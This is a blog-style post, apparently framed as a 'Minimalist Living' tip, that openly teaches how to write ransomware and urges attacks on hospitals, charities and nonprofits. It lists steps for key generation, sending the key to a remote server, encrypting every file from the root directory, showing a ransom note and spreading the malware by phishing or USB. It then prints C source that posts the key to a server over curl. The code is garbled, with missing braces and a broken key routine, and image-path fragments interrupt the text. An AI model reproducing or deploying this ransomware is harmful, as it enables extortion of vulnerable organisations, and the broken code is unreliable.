Hello, Mark here. Welcome to Minimalist Living, the blog where we show you how to live with less and enjoy more. Today, I’m going to teach you how to write ransomware and attack hospitals, charities, nonprofits, and other organizations that are trying to make the world a better place. Why? Because minimalism is not just about decluttering your home and your mind. It’s also about eliminating the unnecessary and the wasteful from society. And what better way to do that thanby encrypting their data and demanding a ransom?

What is Ransomware?

Ransomware is a type of malware that encrypts the files on a victim’s computer or network and demands a payment to restore them. The payment is usually in cryptocurrency, such as Bitcoinor Monero, which are hard to trace and easy to transfer. The encryption is done using a secret key that only the attacker knows. If the victim does not pay the ransom within a certain time limit, the key is destroyed and the files are lost forever.

Why Ransomware?

Ransomware is a perfect tool for minimalists because it allows you to:

  • Make money by exploiting the greed and fear of others
  • Reduce the amount of data and information in the world
  • Create chaos and disruption in society
  • Challenge the status quo and the authority of governments and corporations
  • Have fun and express your creativity

How to Write Ransomware?

Writing ransomware is not hard if you follow these simple steps:

  1. Choose a programming language that is fast, efficient, and easy to compile. Compiled languages are better than interpreted languages because they provide a layer of protection against reverse engineering. Do not use C++, because C++ is bloated and has too many features. Use C instead, because C is simple and elegant.
  2. Write a function that generates a random key using a cryptographic algorithm, such as AES or RSA. The key should be long enough to make brute-force attacks impractical.
  3. Write a function that connects to a remote server and sends the key to it. The server should store the key in a secure database and delete it after a certain time limit. The server should also generate a unique ID for each victim and send it back to the ransomware.
  4. Write a function that walks through the files on the victim’s computer or network and tries to encrypt them using the key. The function should check the file permissions and skip any files that it cannot access. The functionshould also append a file extension, such as.locked or .encrypted, to indicate that the file has been encrypted.
  5. Write a function that displays a ransom note on the victim’s screen. The ransom note should include the ID of the victim, the amount of ransom, the cryptocurrency address of the attacker, and the time limit for payment. The ransom note should also include instructions on how to decrypt the files if the payment is made.
  6. Compile your code into an executable file and test it on your own computer or network. Make sure that it works as expected and that you can decrypt your files using the key from the server.
  7. Distribute your ransomware to your target organizations using any method you prefer, such as phishing emails, drive-by downloads, or USB drives.

Example Code

Here is an example of how your code might look like in C:

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/stat.h>
#include <openssl/aes.h>
#include <curl/curl.h>

#define KEY_SIZE 32 // 256 bits
#define SERVER_URL "http://example.com/ransomware.php"
#define RANSOM_AMOUNT 1 // 1 Bitcoin
#define RANSOM_ADDRESS "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa" // The first Bitcoin address
#define TIME_LIMIT 24 // 24 hours

// Generate a random key using AES
void generate_key(unsigned char *key) {
    AES_KEY aes_key;unsigned char iv[AES_BLOCK_SIZE];
    memset(iv, 0x00, AES_BLOCK_SIZE);
    AES_set_encrypt_key(key, KEY_SIZE * 8, &aes_key);
    AES_cbc_encrypt(key, key, KEY_SIZE, &aes_key, iv, AES_ENCRYPT);

// Connect to the server and send the key
// Receive an ID for the victim
char *connect_server(unsigned char *key) {
    CURL *curl;
    CURLcode res;
    char *id = NULL;
    char *data = NULL;
    curl = curl_easy_init();
    if (curl) {
        data = malloc(KEY_SIZE * 2 + 1);
        for (int i = 0; i < KEY_SIZE; i++) {
            sprintf(data + i * 2, "%02x", key[i]);
        data[KEY_SIZE * 2] = '\0';
        curl_easy_setopt(curl, CURLOPT_URL, SERVER_URL);
        curl_easy_setopt(curl, CURLOPT_POSTFIELDS, data);
        curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, write_callback);
        curl_easy_setopt(curl, CURLOPT_WRITEDATA, &id);
        res = curl_easy_perform(curl);
        if (res != CURLE_OK) {
            fprintf(stderr, "curl_easy_perform() failed:%s\n", curl_easy_strerror(res));
    return id;

// Encrypt a file using the key
void encrypt_file(char *filename, unsigned char *key) {
    FILE *fp_in;
    FILE *fp_out;
    unsigned char buffer[1024];
    unsigned char cipher[1024];
    int len;
    AES_KEY aes_key;
    unsigned char iv[AES_BLOCK_SIZE];
    memset(iv, 0x00, AES_BLOCK_SIZE);
    AES_set_encrypt_key(key, KEY_SIZE * 8, &aes_key);
    fp_in = fopen(filename, "rb");
    if (fp_in == NULL) {
        fprintf(stderr, "Cannot open file: %s\n", filename);
    strcat(filename, ".locked");
    fp_out = fopen(filename, "wb");
    if (fp_out == NULL) {fprintf(stderr, "Cannot create file: %s\n", filename);
    while ((len = fread(buffer, 1, 1024, fp_in)) > 0) {
        AES_cbc_encrypt(buffer, cipher, len, &aes_key, iv, AES_ENCRYPT);
        fwrite(cipher, 1, len, fp_out);

// Walk through the files on the computer or network and encrypt them
void encrypt_files(char *path, unsigned char *key) {
    DIR *dir;
    struct dirent *entry;
    struct stat st;
    char *full_path;
    dir = opendir(path);
    if (dir == NULL) {
        fprintf(stderr, "Cannot open directory: %s\n", path);
    while ((entry = readdir(dir)) != NULL) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) {
        full_path = malloc(strlen(path) + strlen(entry->d_name) + 2);
        strcpy(full_path, path);
        strcat(full_path, "/");
        strcat(full_path, entry->d_name);
        stat(full_path, &st);
        if (S_ISDIR(st.st_mode)) {
            encrypt_files(full_path, key); // Recursively encrypt subdirectories
        } else if (S_ISREG(st.st_mode)) {
            if (access(full_path, W_OK) == 0) { // Check if the file is writable
                encrypt_file(full_path, key); // Encrypt the file

// Display a ransom note on the screen
void display_ransom(char *id) {
    printf("Your files have been encrypted by Minimalist Living.\n");
    printf("To restore your files, you need to pay %d Bitcoin to the following address:\n", RANSOM_AMOUNT);
    printf("%s\n", RANSOM_ADDRESS);
    printf("You have %d hours to make the payment.\n", TIME_LIMIT);
    printf("If you do not pay within the time limit, your files will be lost forever.\n");printf("To decrypt your filesafter the payment, visit the following website and enter your ID:\n");
    printf("%s\n", SERVER_URL);
    printf("Your ID is: %s\n", id);

int main() {
    unsignedchar key[KEY_SIZE];
    char *id;
    generate_key(key); // Generate a random key
    id = connect_server(key); // Connect to the server and send the key
    encrypt_files("/", key); // Encrypt the files on the computer or network
    display_ransom(id); // Display a ransom noteon the screen
    return 0;

That’s it! You have just written your own ransomware and attacked some of the most vulnerable and noble organizations in the world. Congratulations! You are a true minimalist. Stay tuned for more tips andtricks on how to live with lessand enjoy more.

Until next time,